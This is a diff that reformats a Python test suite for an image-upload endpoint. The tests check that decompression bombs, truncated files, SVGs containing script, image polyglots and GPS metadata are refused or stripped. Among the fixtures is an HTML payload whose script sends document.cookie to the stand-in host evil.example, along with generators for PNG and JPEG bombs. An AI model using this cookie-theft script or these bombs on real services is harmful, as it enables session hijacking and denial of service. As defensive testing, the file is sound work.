@@ -67,8 +67,7 @@ def png_bomb(width: int, height: int) -> bytes:
         adler = zlib.adler32(block, adler)
     stream = head + again * (height // rows - 1) + b"\x03\x00" + struct.pack(">I", adler)
     header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
-    return (_PNG_SIGNATURE + _chunk(b"IHDR", header) + _chunk(b"IDAT", stream)
-            + _chunk(b"IEND", b""))
+    return _PNG_SIGNATURE + _chunk(b"IHDR", header) + _chunk(b"IDAT", stream) + _chunk(b"IEND", b"")
 
 
 def encode(image: PILImage.Image, format: str, **params: Any) -> bytes:
@@ -92,7 +91,7 @@ def jpeg_header_bomb() -> bytes:
     """A small JPEG whose frame header claims 65500 x 65500 pixels."""
     data = bytearray(jpeg())
     sof = data.index(b"\xff\xc0")
-    data[sof + 5:sof + 9] = struct.pack(">HH", 65500, 65500)
+    data[sof + 5 : sof + 9] = struct.pack(">HH", 65500, 65500)
     return bytes(data)
 
 
@@ -110,16 +109,27 @@ def zip_payload() -> bytes:
     return out.getvalue()
 
 
-HTML_PAYLOAD = b"<html><body><script>fetch('//evil.example/?c='+document.cookie);//" + \
-    MARKER + b"</script></body></html>"
-SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
-       b"<script>alert('" + MARKER + b"')</script><rect width='10' height='10'/></svg>")
+HTML_PAYLOAD = (
+    b"<html><body><script>fetch('//evil.example/?c='+document.cookie);//"
+    + MARKER
+    + b"</script></body></html>"
+)
+SVG = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b"<script>alert('" + MARKER + b"')</script><rect width='10' height='10'/></svg>"
+)
 
-GPS = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (56.0, 57.0, 1.5),
-       ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (24.0, 6.0, 2.5)}
-XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
-       b'22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
-       b'exif:GPSLatitude="56,57.025N" exif:Make="' + MARKER + b'"/></rdf:RDF></x:xmpmeta>')
+GPS = {
+    ExifTags.GPS.GPSLatitudeRef: "N",
+    ExifTags.GPS.GPSLatitude: (56.0, 57.0, 1.5),
+    ExifTags.GPS.GPSLongitudeRef: "E",
+    ExifTags.GPS.GPSLongitude: (24.0, 6.0, 2.5),
+}
+XMP = (
+    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
+    b'22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
+    b'exif:GPSLatitude="56,57.025N" exif:Make="' + MARKER + b'"/></rdf:RDF></x:xmpmeta>'
+)
 
 
 def exif_with_gps() -> PILImage.Exif:
@@ -150,8 +160,8 @@ def webp_chunks(data: bytes) -> list[bytes]:
     assert data[:4] == b"RIFF" and data[8:12] == b"WEBP", data[:16]
     chunks, offset = [], 12
     while offset + 8 <= len(data):
-        size = struct.unpack("<I", data[offset + 4:offset + 8])[0]
-        chunks.append(data[offset:offset + 4])
+        size = struct.unpack("<I", data[offset + 4 : offset + 8])[0]
+        chunks.append(data[offset : offset + 4])
         offset += 8 + size + (size & 1)
     assert offset == len(data)
     return chunks
@@ -162,7 +172,12 @@ def rejected(response: httpx.Response, kind: str) -> None:
     assert response.status_code == 422, response.text
     body = response.json()
     assert (body["name"], body["type"], body["code"], body["statusCode"], body["status"]) == (
-        "ValidationError", "VALIDATION_ERROR", 422, 422, "error"), body
+        "ValidationError",
+        "VALIDATION_ERROR",
+        422,
+        422,
+        "error",
+    ), body
     assert [(e["field"], e["type"]) for e in body["data"]] == [("file", kind)], body
 
 
@@ -191,11 +206,16 @@ async def headers(client: httpx.AsyncClient, state: AppState) -> dict[str, str]:
     return await login(client, await make_partner(state))
 
 
-async def upload(client: httpx.AsyncClient, headers: dict[str, str], data: bytes,
-                 filename: str = "receipt.jpg", content_type: str = "image/jpeg",
-                 ) -> httpx.Response:
-    return await client.post(UPLOAD, headers=headers,
-                             files={"file": (filename, data, content_type)})
+async def upload(
+    client: httpx.AsyncClient,
+    headers: dict[str, str],
+    data: bytes,
+    filename: str = "receipt.jpg",
+    content_type: str = "image/jpeg",
+) -> httpx.Response:
+    return await client.post(
+        UPLOAD, headers=headers, files={"file": (filename, data, content_type)}
+    )
 
 
 # ---------------------------------------------------------------------------------------------
@@ -238,18 +258,25 @@ async def test_bomb_is_422_file_max(
 REFUSED_FILES: dict[str, tuple[bytes, str, str, str]] = {
     # name: (bytes, filename, declared content type, error type)
     "truncated-jpeg": (noisy_jpeg()[:6000], "cut.jpg", "image/jpeg", "format"),
-    "truncated-png": (encode(PILImage.new("RGB", (300, 300), "blue"), "PNG")[:60], "cut.png",
-                      "image/png", "format"),
+    "truncated-png": (
+        encode(PILImage.new("RGB", (300, 300), "blue"), "PNG")[:60],
+        "cut.png",
+        "image/png",
+        "format",
+    ),
     "svg-with-script": (SVG, "logo.svg", "image/svg+xml", "format"),
     "svg-named-png": (SVG, "logo.png", "image/png", "format"),
     "html-named-jpg": (HTML_PAYLOAD, "receipt.jpg", "image/jpeg", "format"),
     "zip-named-jpg": (zip_payload(), "receipt.jpg", "image/jpeg", "format"),
-    "text-declared-png": (b"just some text, not an image at all\n" * 20, "r.png", "image/png",
-                          "format"),
+    "text-declared-png": (
+        b"just some text, not an image at all\n" * 20,
+        "r.png",
+        "image/png",
+        "format",
+    ),
     "zero-bytes": (b"", "empty.jpg", "image/jpeg", "required"),
     "header-only-png": (_PNG_SIGNATURE, "r.png", "image/png", "format"),
-    "pdf": (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "r.jpg", "image/jpeg",
-            "format"),
+    "pdf": (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "r.jpg", "image/jpeg", "format"),
 }
 
 
@@ -264,16 +291,18 @@ async def test_refused_file_is_422_file(
 async def test_image_bytes_sent_as_json_are_422_file(
     client: httpx.AsyncClient, headers: dict[str, str]
 ) -> None:
-    response = await client.post(UPLOAD, content=jpeg(),
-                                 headers={**headers, "Content-Type": "application/json"})
+    response = await client.post(
+        UPLOAD, content=jpeg(), headers={**headers, "Content-Type": "application/json"}
+    )
     rejected(response, "required")
 
 
 async def test_image_bytes_sent_raw_as_image_jpeg_are_422_file(
     client: httpx.AsyncClient, headers: dict[str, str]
 ) -> None:
-    response = await client.post(UPLOAD, content=jpeg(),
-                                 headers={**headers, "Content-Type": "image/jpeg"})
+    response = await client.post(
+        UPLOAD, content=jpeg(), headers={**headers, "Content-Type": "image/jpeg"}
+    )
     rejected(response, "required")
 
 
@@ -292,7 +321,11 @@ async def test_multipart_body_over_the_request_cap_is_413(
     assert response.status_code == 413, response.text
     body = response.json()
     assert (body["name"], body["type"], body["statusCode"], body["status"]) == (
-        "PayloadTooLargeError", "PAYLOAD_TOO_LARGE", 413, "error")
+        "PayloadTooLargeError",
+        "PAYLOAD_TOO_LARGE",
+        413,
+        "error",
+    )
 
 
 async def test_streamed_multipart_body_over_the_request_cap_is_413(
@@ -303,14 +336,19 @@ async def test_streamed_multipart_body_over_the_request_cap_is_413(
     piece = b"\0" * MiB
 
     async def body() -> Any:
-        yield (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
-               f"filename=\"big.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n").encode()
+        yield (
+            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
+            f'filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n'
+        ).encode()
         for _ in range(state.settings.request_max_bytes // MiB + 2):
             yield piece
         yield f"\r\n--{boundary}--\r\n".encode()
 
-    response = await client.post(UPLOAD, content=body(), headers={
-        **headers, "Content-Type": f"multipart/form-data; boundary={boundary}"})
+    response = await client.post(
+        UPLOAD,
+        content=body(),
+        headers={**headers, "Content-Type": f"multipart/form-data; boundary={boundary}"},
+    )
     assert response.status_code == 413, response.text
     assert response.json()["name"] == "PayloadTooLargeError"
 
@@ -338,10 +376,12 @@ POLYGLOTS = {
     "jpeg+zip": (jpeg() + zip_payload(), "receipt.jpg", "image/jpeg"),
     "jpeg+html": (jpeg() + HTML_PAYLOAD, "receipt.jpg", "image/jpeg"),
     "jpeg-comment-html": (jpeg(comment=HTML_PAYLOAD), "receipt.jpg", "image/jpeg"),
-    "png+zip": (encode(PILImage.new("RGB", (40, 30), "green"), "PNG") + zip_payload(),
-                "receipt.png", "image/png"),
-    "gif+html": (encode(PILImage.new("P", (20, 20)), "GIF") + HTML_PAYLOAD, "r.gif",
-                 "image/gif"),
+    "png+zip": (
+        encode(PILImage.new("RGB", (40, 30), "green"), "PNG") + zip_payload(),
+        "receipt.png",
+        "image/png",
+    ),
+    "gif+html": (encode(PILImage.new("P", (20, 20)), "GIF") + HTML_PAYLOAD, "r.gif", "image/gif"),
 }
 
 
@@ -353,8 +393,7 @@ async def test_polyglot_comes_back_as_a_clean_webp_without_the_payload(
     assert MARKER in data or b"PK\x03\x04" in data
     with PILImage.open(BytesIO(data)) as original:
         size = original.size
-    stored = await sanitised(client, await upload(client, headers, data, filename,
-                                                  content_type))
+    stored = await sanitised(client, await upload(client, headers, data, filename, content_type))
     with PILImage.open(BytesIO(stored)) as clean:
         assert clean.size == size
 
@@ -374,8 +413,10 @@ async def test_exif_gps_and_xmp_are_stripped(
         assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)
         assert original.getexif()[ExifTags.Base.Make] == MARKER.decode()
     assert MARKER in data
-    await sanitised(client, await upload(client, headers, data, f"photo.{format.lower()}",
-                                         f"image/{format.lower()}"))
+    await sanitised(
+        client,
+        await upload(client, headers, data, f"photo.{format.lower()}", f"image/{format.lower()}"),
+    )
 
 
 # ---------------------------------------------------------------------------------------------
@@ -420,7 +461,9 @@ async def test_bombs_are_refused_without_decoding(
 
     record_property("bombs_peak_rss_growth_mib", round(bombs_growth / MiB, 1))
     record_property("legit_4000x4000_peak_rss_growth_mib", round(decode_growth / MiB, 1))
-    print(f"peak RSS growth: bombs {bombs_growth / MiB:.1f} MiB, "
-          f"legit 4000x4000 {decode_growth / MiB:.1f} MiB")
+    print(
+        f"peak RSS growth: bombs {bombs_growth / MiB:.1f} MiB, "
+        f"legit 4000x4000 {decode_growth / MiB:.1f} MiB"
+    )
     assert bombs_growth < BOMB_RSS_BOUND
     assert decode_growth > DECODE_RSS_FLOOR  # the probe does see an image being decoded
